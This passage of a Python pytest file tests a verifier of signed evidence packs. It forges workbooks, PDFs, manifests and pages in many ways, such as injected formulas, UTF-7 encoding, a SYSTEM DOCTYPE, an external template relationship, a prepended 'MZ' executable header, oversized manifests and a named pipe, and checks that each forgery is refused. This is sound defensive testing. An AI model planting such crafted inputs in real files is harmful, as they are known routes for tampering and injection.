        "a part xl/embeddings",
    ),
    "a formula": (part(SHEET, "<c ", '<c r="Z9"><f>1+1</f></c><c '), "<f> in xl/worksheets"),
    "a formula with a prefix": (part(SHEET, "<c ", "<c><x:f\t>1+1</x:f></c><c "), "<x:f.t in xl/"),
    "a formula in UTF-16": (
        parts(
            lambda name, content: content.decode().encode("utf-16") if name == SHEET else content
        ),
        "another encoding than UTF-8 in xl/worksheets",
    ),
    "a formula in UTF-7": (
        part(SHEET, 'encoding="UTF-8"', "encoding = 'utf-7'"),
        "another encoding than UTF-8 in xl/worksheets",
    ),
    "an entity": (part(SHEET, "<worksheet", '<!DOCTYPE a SYSTEM "b"><worksheet'), "<!DOCTYPE in"),
    "a template from elsewhere": (
        part(RELATIONS, "<Relationship ", '<Relationship TargetMode="External" '),
        f"TargetMode in {RELATIONS}",
    ),
    "a sheet twice": (parts(as_it_is, {SHEET: b"<a/>"}), "a part that stands there twice"),
    "another file's bytes": (
        lambda pack: (pack / WORKBOOK).write_bytes(b"another"),
        "it cannot be read",
    ),
    "a program before a workbook": (
        lambda pack: (pack / WORKBOOK).write_bytes(b"MZ" + (pack / WORKBOOK).read_bytes()),
        "does not follow the file before it",
    ),
}
# A part of a verification for each group of forgeries, since all of it takes a second; the first
# forgery of each group is given to all of it too.


def of_files(contents: Contents, stated: dict[str, str]) -> Iterator[Check]:
    kind = kind_of(contents, stated)
    yield from check_kind(contents, stated, kind)
    if kind is ACCOUNT:
        yield from check_findings(contents, stated)


def of_info(contents: Contents, stated: dict[str, str]) -> Iterator[Check]:
    attached = json.loads(MANIFEST[0])
    yield from check_findings(contents, stated)
    yield from check_info(contents, stated, attached)


def of_document(contents: Contents, stated: dict[str, str]) -> Iterator[Check]:
    checks, manifest = check_document(contents, stated, attached=True)
    yield from checks
    yield from check_info(contents, stated, manifest)


def of_page(contents: Contents, stated: dict[str, str]) -> Iterator[Check]:
    yield from check_page(contents, stated, maker_of(stated), of_an_account=True)[0]


def of_readme(contents: Contents, stated: dict[str, str]) -> Iterator[Check]:
    yield from check_readme(contents, stated, maker_of(stated))


def of_workbook(contents: Contents, stated: dict[str, str]) -> Iterator[Check]:
    yield from check_workbook(contents, WORKBOOK)


Part = Callable[[Contents, dict[str, str]], Iterator[Check]]
MANIFEST: list[bytes] = []
GROUPS: list[tuple[Part, dict[str, tuple[Callable[[Path], Any], str]]]] = [
    (of_files, FILES),
    (of_info, INFO),
    (of_info, EVIDENCE),
    (
        of_document,
        {name: (drawn(change), reported) for name, (change, reported) in DOCUMENT.items()}
        | {"a program before a document": (before_document, "does not begin as a PDF")},
    ),
    (of_page, PAGE),
    (of_readme, READ_ME),
    (of_workbook, WORKBOOKS),
]
CASES = {f"{name}": (look, *case) for look, group in GROUPS for name, case in group.items()}
FIRST = [next(iter(group)) for _, group in GROUPS] + [*FORMS]


def test_every_forgery_has_a_name_of_its_own() -> None:
    assert len(CASES) + len(FORMS) == sum(len(group) for _, group in GROUPS) + len(FORMS)
    assert len(CASES) + len(FORMS) > 100


@pytest.mark.filterwarnings("ignore:This document has 1 form widget annotation")
@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("name", CASES)
def test_a_forgery_is_refused(unsigned: Path, pack: Path, name: str) -> None:
    look, change, reported = CASES[name]
    if not MANIFEST:
        with pikepdf.open(unsigned / PDF) as file:
            MANIFEST.append(file.attachments["snapshot.json"].get_file().read_bytes())
    change(pack)
    with open_contents(pack) as contents:
        lines = [check.line for check in look(contents, read_info(contents)) if not check.ok]
    assert re.search(reported, "\n".join(lines), re.MULTILINE), lines


@pytest.mark.parametrize("name", FIRST)
def test_a_forgery_is_refused_by_the_whole(pack: Path, name: str) -> None:
    change, reported = FORMS[name] if name in FORMS else CASES[name][1:]
    change(pack)
    reseal(pack)
    assert re.search(reported, faults(pack)), faults(pack)


def test_what_is_not_made_again_is_named_at_the_end(pack: Path) -> None:
    parts(lambda name, old: old.replace(b"pass", b"fail"))(pack)
    reseal(pack)
    last = [*ending(verify(pack))]
    assert re.search("^not compared: .*data/findings.xlsx", last[-2])


def test_forms_of_another_kit_are_not_compared_and_it_is_named(pack: Path) -> None:
    info(pack, "Bag-Software-Lock", "0" * 64)
    form(OCSF, '"status_code":"fail"', '"status_code":"pass"')(pack)
    page_script(pack)
    reseal(pack)
    checks = verify(pack)
    assert [check.line for check in checks if not check.ok] == []
    made_by = "not compared: made by appstream-evidence-kit 0.1.0 (000000000000)"
    named = {check.subject for check in checks if check.message.startswith(made_by)}
    assert {f"data/{OCSF}", f"{HTML}: script", f"other texts of {HTML}"} <= named
    assert [*ending(checks)][-2].startswith("not compared: ")


def test_a_manifest_of_200_mb_is_bounded(pack: Path) -> None:
    with (pack / "manifest-sha256.txt").open("r+b") as file:
        file.truncate(200 << 20)  # takes no room on the disk
    assert "has 209715200 bytes; 16777216 are read at most" in faults(pack)


def test_a_manifest_of_many_names_is_reported_in_a_thousand_lines(pack: Path) -> None:
    manifest = pack / "manifest-sha256.txt"
    more = "".join(f"{n:064x}  data/evidence/E{n}.json\n" for n in range(10_000, 60_000))
    manifest.write_text(manifest.read_text() + more)
    lines = faults(pack).splitlines()
    assert len(lines) < 1_100
    assert [line for line in lines if "faults more" in line]


def test_a_batch_counts_no_pack_that_does_not_verify(unsigned: Path, pack: Path) -> None:
    def fault(folder: Path, **requested: Any) -> str:
        """What keeps a batch from counting a pack whose ``complete.json`` was forged along."""
        with open_contents(folder) as contents:
            stated = read_info(contents)
            lists = contents.sha256("tagmanifest-sha256.txt")
        run = {"account": stated["Account"], **requested}
        facts = {
            "pack_sha256": lists,
            "snapshot_sha256": stated["Snapshot-SHA-256"],
            "findings_digest": stated["Findings-SHA-256"],
        }
        return fault_of(Job(run, "batch", "outputs", "outputs", "", "0.1.0"), facts, folder)

    assert fault(unsigned) == ""
    assert fault(unsigned, signed=True) == "it is unsigned, and the batch signs"
    assert fault(unsigned, account="111111111111").startswith("it states Account ")
    whiten(pack)
    reseal(pack)
    assert fault(pack).startswith("FAILED")
    (pack / "bag-info.txt").unlink()
    os.mkfifo(pack / "bag-info.txt")
    assert "it is a named pipe" in fault_of(
        Job({"account": "1"}, "batch", "outputs", "outputs", "", "0.1.0"),
        {"pack_sha256": sha256((pack / "tagmanifest-sha256.txt").read_bytes()).hexdigest()},
        pack,
    )
